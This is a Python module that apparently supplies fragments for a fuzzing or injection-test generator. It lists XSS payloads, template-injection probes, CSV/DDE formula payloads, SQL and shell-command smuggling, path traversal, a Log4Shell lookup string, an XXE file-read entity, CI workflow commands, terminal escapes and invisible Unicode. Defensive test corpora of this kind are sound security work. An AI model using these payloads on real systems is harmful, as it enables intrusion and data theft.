"""What hostile texts are combined of: see `strings`."""

from __future__ import annotations

RUN = [
    "alert(1)", "window.XSS=1", "top['al'+'ert'](1)", "location='https://x.invalid/'", "fetch('//x.invalid/')", "import('//x.invalid/a.js')",
]  # fmt: skip
BREAKS = [
    "", '"', "'", "`", '">', "'>", "`>", "-->", "--!>", "]]>", "?>", "%>", "}}", "</title>", "</textarea>", "</script>", "</style>", "</noscript>",
    "</iframe>", "</xmp>", "</svg>", "</math>", "</select>", "</template>", "</a>", "</p>", "</td></tr></table>", "</main></body>", '" x="', "' x='",
    '"/>', "*/", '\\"', "\\'", "&quot;>", "&#34;>", "&#x22&gt;", "\\u003e", "%22%3E", "<!--", "<![CDATA[", "<",
]  # fmt: skip
TAGS = [
    "script", "img", "svg", "body", "iframe", "video", "audio", "input", "details", "object", "embed", "math", "style", "link", "meta", "base",
    "form", "a", "marquee", "template",
]  # fmt: skip
EVENTS = [
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin", "onpointerenter", "onpageshow", "oninput",
    "onwheel",
]  # fmt: skip
GAPS = [
    " ", "/", "\t", "//", " /", "  ",
]  # fmt: skip
QUOTES = [
    "{}", '"{}"', "'{}'", "`{}`", "&quot;{}&quot;",
]  # fmt: skip
WRAPS = [
    "<math><mtext><table><mglyph><style><!--</style>{}", "<svg><style>{}", "<svg><title>{}", "<svg><desc>{}", "<math><mi>{}",
    "<math><annotation-xml encoding=text/html>{}", "<svg><foreignObject>{}", "<form><math><mtext></form><form><mglyph><style></math>{}",
    '<noscript><p title="</noscript>{}">', "<table><td>{}", "<select><template>{}", "<template shadowrootmode=open>{}", "<textarea>{}", "<title>{}",
    "<xmp>{}", "<plaintext>{}", '<iframe srcdoc="{}">', "<option><style></option></select>{}", '<style><a title="</style>{}">', "<![CDATA[{}]]>",
    "<!--><{}-->", "<!--!>{}-->", "<?xml {}?>", "<!DOCTYPE {}>", "<dl><dt>{}", "<frameset>{}", '<svg><use href="#x"/>{}',
    '<svg><a xlink:href="javascript:alert(1)">{}', "<b><p><b>{}", "<a><table><a>{}", "<button><p><button>{}", "<ruby><rtc>{}",
    "<mglyph><malignmark>{}", "<p>{}</p>",
]  # fmt: skip
INNER = [
    "<img src=x onerror={}>", "<script>{}</script>", "<svg onload={}>", "<a href=javascript:{}>x</a>", "<style>@import'//x.invalid'</style>",
    "<link rel=stylesheet href=//x.invalid>", "<img src=//x.invalid/{}>",
]  # fmt: skip
SCHEMES = [
    "javascript", "vbscript", "data", "file", "blob", "filesystem", "view-source", "jar", "about", "ws", "ftp", "intent", "tel", "feed", "livescript",
    "mhtml",
]  # fmt: skip
DRESS = [
    "{}:", "{}&colon;", "{}&#58;", "{}&#x3a;", "&#1;{}:", "{}\\:", " {}:", "{}%3a", "{}&Tab;:", "{}&NewLine;:", "//{}:", "{}:/", "{}://", "\\x01{}:",
    "x-{}:", "{}:%0a", "view-source:{}:", "{}&amp;colon;",
]  # fmt: skip
CARRIERS = [
    "{}alert(1)", "[x]({}alert(1))", '<a href="{}alert(1)">x</a>', "![x]({}alert(1))", "<{}alert(1)>", "[x][1] [1]: {}alert(1)",
    '[x](<{}alert(1)> "t")', "<form action={}alert(1)><button>", "<iframe src={}alert(1)>", "url({}alert(1))",
    "<meta http-equiv=refresh content=0;url={}alert(1)>", "<base href={}>",
]  # fmt: skip
SUMS = [
    "1337*7331", "1337 * 7331", "(1337*7331)", "1337|times:7331", "1337.__mul__(7331)", "'x'.constructor.constructor('return 1337*7331')()",
]  # fmt: skip
FENCES = [
    "{{{{{}}}}}", "{{%{}%}}", "{{% print({}) %}}", "{{{{={}}}}}", "{{{{{{{}}}}}}}", "${{{}}}", "$!{{{}}}", "#{{{}}}", "@({})", "@{{{}}}", "<%={}%>",
    "<%-{}%>", "<%{}%>", "[[${{{}}}]]", "[[{}]]", "[%{}%]", "{{@{}}}", "{{#{}}}", "{{{}}}", "*{{{}}}", "~{{{}}}", "`${{{}}}`", "%({})s", "$({})",
    "<?={}?>", "{{{{constructor.constructor('{}')()}}}}", "<{{{{{}}}}}>", "{{% for x in [{}] %}}{{{{x}}}}{{% endfor %}}", "{{# {} #}}",
    "#set($x={})$x", "{{php}}echo {};{{/php}}", "{{% raw %}}{{{{{}}}}}", "{{{{'a'|{}}}}}", "${{T(java.lang.Math).max({},0)}}", "=({})", "{{0.{}}}",
]  # fmt: skip
LEADS = [
    "=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe62", "\ufe63", "\ufe66", "\ufe6b", "⁺", "₋", "⁼",
]  # fmt: skip
HIDES = [
    "", " ", "\u3000", "\u2003", "'", '"', "''", ",", ";", "|", " \u3000", "\u200b", "\ufeff", "\xa0", "\xad", "\t", "\u2060", "\r", "\n", "\x00",
    "\x1f", "\x85",
]  # fmt: skip
FORMULAS = [
    "1+1", "SUM(A1)", "cmd|' /C calc'!A0", 'HYPERLINK("https://x.invalid";"x")', 'IMPORTXML("https://x.invalid","//a")', 'DDE("cmd";"/C calc")', "1",
    "x",
]  # fmt: skip
ENTITIES = [
    "&lt;{}&gt;", "&#60;{}&#62;", "&#x3c;{}&#x3E;", "&LT{}&GT", "&lt{}&gt", "&#0060{}&#0062", "&amp;lt;{}&amp;gt;", "\\u003c{}\\u003e",
    "\\x3c{}\\x3e", "%3C{}%3E", "+ADw-{}+AD4-", "\uff1c{}\uff1e", "‹{}›", "˂{}˃", "&nvlt;{}&nvgt;",
]  # fmt: skip
ENTITY_BODIES = [
    "script", "/script", "img src=x onerror=alert(1)", "svg/onload=alert(1)", "b", "!--", "/td", "a href=javascript:alert(1)",
]  # fmt: skip
JSON_BREAKS = [
    '"}}', '"]}', '","x":"', "\\", '\\\\"', "\\u0022", "</script><script>", "<!--<script>", "]]>", "\u2028", "\u2029", "*/", "//", "__proto__",
    '{"__proto__":{}}', "NaN", "-0", "1e999", "\\ud800",
]  # fmt: skip
XML_BREAKS = [
    "]]>", "&x;", "<!ENTITY x SYSTEM 'file:///etc/hostname'>", "<!DOCTYPE x>", "<?xml version='1.1'?>", "<x:y>", "</title>", "</feed>", "</entry>",
    "--", "<xi:include href='x'/>", "<f>1</f>", "_x0000_", "_x003C_", "xmlns:x='y'",
]  # fmt: skip
SQL_BREAKS = [
    "';DROP TABLE cells;--", '" OR 1=1--', "x');--", "`;", "\\'", "''", "%00", "${jndi:ldap://x.invalid}", "$(id)", "`id`", "; id", "| id", "&& id",
    "../../../etc/hostname", "..\\..\\x", "%2e%2e/", "~/x", "C:\\x", "NUL", "con",
]  # fmt: skip
ICS = [
    "BEGIN:VEVENT", "END:VCALENDAR", "ATTENDEE:mailto:x@y.invalid", "BEGIN:VALARM", "X-A;X=Y:Z", "DTSTART:19700101T000000Z", "METHOD:REQUEST",
    "ATTACH:file:///etc/hostname",
]  # fmt: skip
ICS_BREAKS = [
    "", "\\n", "\\N", "\\r\\n", "\r\n", "\n", "\r", "\n ", "\x85", "\u2028", "\u2029", "\x0b", "\x0c", ";", ",", ":", '"', "\\", "=0D=0A", "%0D%0A",
]  # fmt: skip
WORKFLOW = [
    "::error::x", "::error file=a.md,line=1::x", "::warning::x", "::notice title=x::y", "::debug::x", "::group::x", "::endgroup::", "::add-mask::x",
    "::stop-commands::x", "::set-output name=a::b", "::set-env name=PATH::b", "::add-path::/x", "::save-state name=a::b", "::echo::on",
    "::add-matcher::x.json", "##[error]x", "##[group]x", "##[set-env name=PATH]x", "##vso[task.setvariable variable=x]y",
    "##teamcity[message text='x']",
]  # fmt: skip
LINE_BREAKS = [
    "", " ", "\u3000", "\t", "x\n", "x\r", "x\r\n", "x\x0b", "x\x0c", "x\x85", "x\u2028", "x\u2029", "\ufeff", "\u200b", "\x00", "x\x1c", "x%0A",
    "\xa0",
]  # fmt: skip
ESCAPES = [
    "\x1b[31mx", "\x1b[2J", "\x1b]0;x\x07", "\x1b]8;;https://x.invalid\x1b\\x", "\x1b]52;c;eA==\x07", "\x1b[6n", "\x1bP+q544e\x1b\\", "\x1b_x\x1b\\",
    "\x1b^x\x1b\\", "\x1b[?1049h", "\x1b[8m", "\x1b[1A\x1b[2K", "\x1bc", "\x1b(0", "\x9b31m", "\x9d0;x\x9c", "\x90x\x9c", "\x07", "\x08\x08", "\x7f",
    "\x0e\x0f", "\x05", "\rsection_start:0:x\r\x1b[0K", "\x1b%G", "\x1b#8", "\x1b[5i",
]  # fmt: skip
UNSEEN = [
    "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200b", "\u200c", "\u200d", "\u200e", "\u200f",
    "\u2060", "\u2061", "\u2062", "\u2063", "\u2064", "\u2065", "\ufe00", "\ufe01", "\ufe02", "\ufe03", "\ufe04", "\ufe05", "\ufe06", "\ufe07",
    "\ufe08", "\ufe09", "\ufe0a", "\ufe0b", "\ufe0c", "\ufe0d", "\ufe0e", "\ufe0f", "\U000e0020", "\U000e0029", "\U000e0032", "\U000e003b",
    "\U000e0044", "\U000e004d", "\U000e0056", "\U000e005f", "\U000e0068", "\U000e0071", "\U000e007a", "\xad", "͏", "\u061c", "ᅟ", "\u180e", "\u3164",
    "\ufeff", "\uffa0", "\ufff9", "\ufffb",
]  # fmt: skip
ODD = [

    "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
    "\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389\U0001f389",
    "Z͑ͫ̓Z͑ͫ̓Z͑ͫ̓Z͑ͫ̓Z͑ͫ̓Z͑ͫ̓Z͑ͫ̓Z͑ͫ̓Z͑ͫ̓Z͑ͫ̓Z͑ͫ̓Z͑ͫ̓", "\ufdfa", "İ", "ß", "\ufb01", "\ue000", "\U0010fffd", "\U0001d54f", "ำ้", "مرحبا", "שלום",
    "٣", "Ⅷ", "½",
    "\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042\u3042",
    "''''''''''''''''''''''''''''''''''''''''", '""""""""""""""""""""""""""""""""""""""""',
    "\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\", "````````````````````````````````````````",
    "****************************************", "________________________________________", "||||||||||||||||||||||||||||||||||||||||",
    "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[", "~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~",
]  # fmt: skip
